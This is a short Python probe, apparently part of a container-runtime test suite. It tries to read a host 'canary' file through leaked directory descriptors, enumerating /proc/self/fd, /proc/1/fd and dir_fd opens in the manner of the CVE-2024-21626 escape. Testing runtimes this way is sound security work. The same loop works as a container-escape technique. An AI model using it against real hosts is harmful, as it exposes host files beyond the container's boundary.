"""Reads the file of the host that CANARY_RELATIVE names by way of folders that somebody may have left open.

Why: a runtime that leaks a descriptor of a host folder gives the host away (CVE-2024-21626). Harmless: only the canary is
read, 4 KiB of it.
"""

import os
import sys
import time


PATH = os.environ.get("CANARY_RELATIVE", "")


def from_descriptor(number):
    descriptor = os.open(PATH, os.O_RDONLY, dir_fd=number)
    return os.read(descriptor, 4096)


def from_link(process, number):
    with open(f"/proc/{process}/fd/{number}/{PATH}", "rb") as file:
        return file.read(4096)


def main():
    attempt(from_link, "self", "../cwd")
    for number in range(256):
        for way in (lambda: from_descriptor(number), lambda: from_link("1", number), lambda: from_link("self", number)):
            try:
                tell(way())
            except OSError:
                pass


# The frame, the same in every probe.

try:
    import select
except ImportError:
    select = None

HELD = []


def attempt(what, *arguments):
    """Makes one try, prints the bytes that it gives, keeps what it gave, and goes on after any failure."""
    try:
        got = what(*arguments)
    except Exception as error:
        got = f"no: {type(error).__name__} {getattr(error, 'errno', '')}".encode()
    HELD.append(got)
    if isinstance(got, bytes):
        tell(got)
    return got


def tell(got):
    """Prints bytes as they are, 1 MiB at most."""
    sys.stdout.buffer.write(got[: 1 << 20] + b"\n")
    sys.stdout.buffer.flush()


def hold():
    """Says that all was tried, and keeps what it got until standard input ends, for 20 seconds at most."""
    tell(b"\ntried " + sys.argv[1].encode())
    end = time.monotonic() + 20
    while time.monotonic() < end:
        if select is not None and not select.select([0], [], [], 1)[0]:
            continue
        if not os.read(0, 4096):
            break


main()
hold()
